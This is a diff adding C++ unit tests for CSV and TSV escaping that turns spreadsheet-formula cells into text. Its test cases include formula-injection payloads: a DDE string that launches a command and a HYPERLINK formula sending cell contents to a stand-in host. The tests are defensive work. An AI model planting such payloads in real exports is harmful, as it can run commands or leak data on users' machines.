@@ -26,7 +26,7 @@ TEST(CsvTable, QuotesOnlyWhatNeedsItAndEndsEveryRecordInCrLf) {
         "13800138000,北京,北京,010,100000,中国移动\r\n"
         "13912345678,江苏,,0519,,\r\n"
         "1,\"a,b\",\"say \"\"hi\"\"\",\"two\r\nlines\",\"lone\nLF\", blank \r\n"
-        "2,\"\"\"\",\",\",,,\"\r\"\r\n";
+        "2,\"\"\"\",\",\",,,\"'\r\"\r\n";  // a CR first is a formula start
     EXPECT_EQ(CsvTable(Rows({"手机号码", "所属省份"}, rows)), expected);
 }
 
@@ -62,6 +62,40 @@ TEST(TextEscape, EachFormatEscapesItsOwnBytes) {
         EXPECT_EQ(json, c.json) << c.field;
         EXPECT_EQ(NeedsCsvQuotes(c.field), csv != c.field) << c.field;
     }
+}
+
+// A cell a spreadsheet would run as a formula is written as text, quoted or not, in both
+// formats; a formula character anywhere but at the start is no formula.
+TEST(TextEscape, CellsThatStartLikeAFormulaAreWrittenAsText) {
+    struct Case {
+        std::string_view field, csv, tsv;
+    };
+    const Case cases[] = {
+        {"=1+1", "'=1+1", "'=1+1"},
+        {"+86 138", "'+86 138", "'+86 138"},
+        {"-1", "'-1", "'-1"},
+        {"@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)"},
+        {"\tx", "'\tx", "'\\tx"},
+        {"\r=x", "\"'\r=x\"", "'\\r=x"},
+        {"=HYPERLINK(\"http://a/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://a/?\"\"&A1,\"\"x\"\")\"",
+         "'=HYPERLINK(\"http://a/?\"&A1,\"x\")"},
+        {"a=1", "a=1", "a=1"},
+        {"1-2", "1-2", "1-2"},
+        {" =1", " =1", " =1"},
+        {"'", "'", "'"},
+    };
+    for (const Case& c : cases) {
+        std::string csv, tsv;
+        AppendCsvField(csv, c.field);
+        AppendTsvField(tsv, c.field);
+        EXPECT_EQ(csv, c.csv) << c.field;
+        EXPECT_EQ(tsv, c.tsv) << c.field;
+        EXPECT_EQ(CsvFieldAsIs(c.field), csv == c.field) << c.field;
+    }
+    // The window's CSV export, through the same cells.
+    const attribution::Record row{"=cmd|' /C calc'!A0", "-", "+1", "@x", "中国移动"};
+    std::string table = CsvTable(ResultTable({&row, 1}));
+    EXPECT_EQ(table.substr(table.find("\r\n") + 2), ",'=cmd|' /C calc'!A0,'-,'@x,'+1,中国移动\r\n");
 }
 
 }  // namespace
